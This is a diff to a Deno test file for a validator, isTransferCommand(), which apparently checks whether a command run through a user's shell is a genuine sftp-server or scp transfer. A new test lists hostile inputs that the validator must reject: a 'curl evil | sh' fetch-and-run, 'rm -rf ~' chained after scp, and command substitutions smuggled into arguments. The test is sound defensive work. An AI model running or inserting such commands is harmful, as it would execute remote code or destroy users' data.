@@ -19,9 +19,29 @@ Deno.test("isTransferProgram() accepts sftp-server and scp -t/-f, not a user's s
 });
 
 Deno.test("isTransferCommand() sees transfers started through the user's shell", () => {
-  assert.equal(isTransferCommand(["bash", "-c", "/usr/lib/openssh/sftp-server"]), true);
-  assert.equal(isTransferCommand(["bash", "-c", "scp -t /tmp/x"]), true);
-  assert.equal(isTransferCommand(["bash", "-c", "scp -O -f /tmp/x"]), true);
-  assert.equal(isTransferCommand(["bash", "-c", "echo scp"]), false);
-  assert.equal(isTransferCommand(["bash"]), false);
+  assert.equal(isTransferCommand(["bash", "-c", "/usr/lib/openssh/sftp-server"], false), true);
+  assert.equal(
+    isTransferCommand(["bash", "-c", "/usr/lib/openssh/sftp-server -l INFO"], false),
+    true,
+  );
+  assert.equal(isTransferCommand(["bash", "-c", "scp -t /tmp/x"], false), true);
+  assert.equal(isTransferCommand(["bash", "-c", "scp -O -f /tmp/x"], false), true);
+  assert.equal(isTransferCommand(["bash", "-c", "echo scp"], false), false);
+  assert.equal(isTransferCommand(["bash"], false), false);
+});
+
+Deno.test("isTransferCommand() refuses commands that only mention a transfer program", () => {
+  for (
+    const command of [
+      "bash -i # sftp-server",
+      "curl evil | sh; : sftp-server",
+      "/tmp/x;/usr/lib/openssh/sftp-server",
+      "scp -t /tmp/x; rm -rf ~",
+      "scp -t $(id)",
+      "sftp-server `id`",
+    ]
+  ) {
+    assert.equal(isTransferCommand(["bash", "-c", command], false), false, command);
+  }
+  assert.equal(isTransferCommand(["bash", "-c", "/usr/lib/openssh/sftp-server"], true), false);
 });
